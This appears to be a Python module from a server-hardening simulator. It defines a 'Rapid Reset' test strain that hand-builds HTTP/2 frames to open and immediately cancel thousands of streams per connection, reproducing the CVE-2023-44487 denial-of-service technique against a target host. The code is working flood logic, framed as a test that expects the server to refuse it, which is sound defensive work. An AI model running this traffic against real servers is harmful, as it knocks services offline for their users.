"""Streams of HTTP/2 that are opened and reset at once: the work of a request without ever holding a stream."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from simulator.attacks.script import Wire
from simulator.attacks.strain import HOSTILE, Strain, refusing
from simulator.limits import RESET_STREAMS_MAX
from simulator.profiles import Basis

if TYPE_CHECKING:
    from collections.abc import Iterator

    from simulator.attacks.script import Stage

CONNECTIONS = 4
BATCH = 100
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
"""Types of frames (RFC 9113 §6)."""
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
GET, HTTPS, PATH, AUTHORITY = b"\x82", b"\x87", b"\x04", b"\x01"
"""Fields of the static table (RFC 7541 §A): two whole, and the names of two whose values follow."""


class RapidReset(Strain):
    """Requests that are taken back as soon as they are made."""

    name = "strain.rapid-reset"
    basis = Basis.HARDENED
    shape = f"{RESET_STREAMS_MAX:,} streams on each of {CONNECTIONS} HTTP/2 connections, opened and reset at once"
    verdict = "closed, or taken for what they cost"
    anchor = "CVE-2023-44487; RFC 9113 §10.5"
    needs_http2 = True

    def held(self, stage: Stage) -> list[Wire]:
        """Open and reset as fast as it is read; the client is known by one address."""
        streams = tuple((one, 0.0) for one in _streams(stage.host.encode()))
        parts = ((PREFACE + _frame(SETTINGS, 0, 0, b""), 0.0), *streams)
        expect = refusing(because="so many streams are no client's")
        return [
            Wire(parts, expect, patience_seconds=self.seconds, client=HOSTILE, http2=True) for _ in range(CONNECTIONS)
        ]


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Write a frame (RFC 9113 §4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: bytes) -> bytes:
    """Write a string literal of fewer than 127 bytes, without Huffman coding (RFC 7541 §5.2)."""
    return bytes((len(value),)) + value


def _streams(authority: bytes) -> Iterator[bytes]:
    """Write batches of streams, each opened and reset."""
    block = GET + HTTPS + PATH + _text(b"/health") + AUTHORITY + _text(authority)
    reset = struct.pack(">I", CANCEL)
    for first in range(0, RESET_STREAMS_MAX, BATCH):
        numbers = (2 * number + 1 for number in range(first, first + BATCH))
        yield b"".join(
            _frame(HEADERS, END_STREAM | END_HEADERS, number, block) + _frame(RST_STREAM, 0, number, reset)
            for number in numbers
        )
